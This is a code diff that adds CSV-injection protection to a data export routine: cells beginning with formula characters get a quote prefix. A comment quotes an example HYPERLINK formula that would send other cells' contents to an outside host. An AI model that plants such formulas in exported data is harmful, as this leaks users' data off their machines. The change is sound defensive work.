@@ -270,12 +270,28 @@ def as_jsonl(rows: Iterator[dict]) -> Iterator[str]:
         yield json.dumps(row, ensure_ascii=False) + "\n"
 
 
+# A spreadsheet runs a cell that starts with one of these as a formula: a user's message such as
+# =HYPERLINK("https://elsewhere/?"&A1, "Open") would send other cells away from the operator's
+# machine (OWASP, "CSV Injection"). Tab and carriage return are on OWASP's list as well.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def csv_cell(value: object) -> object:
+    """A text cell that would start a formula, prefixed with a single quote so it is shown as text.
+
+    Only the CSV export does this; JSONL carries the exact text, for programs rather than spreadsheets.
+    """
+    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
+        return "'" + value
+    return value
+
+
 def as_csv(rows: Iterator[dict]) -> Iterator[str]:
     buffer = io.StringIO()
     writer = csv.DictWriter(buffer, fieldnames=EXPORT_FIELDS)
     writer.writeheader()
     for row in rows:
-        writer.writerow({k: ";".join(v) if isinstance(v, list) else v for k, v in row.items()})
+        writer.writerow({k: csv_cell(";".join(v) if isinstance(v, list) else v) for k, v in row.items()})
         yield buffer.getvalue()
         buffer.seek(0)
         buffer.truncate()
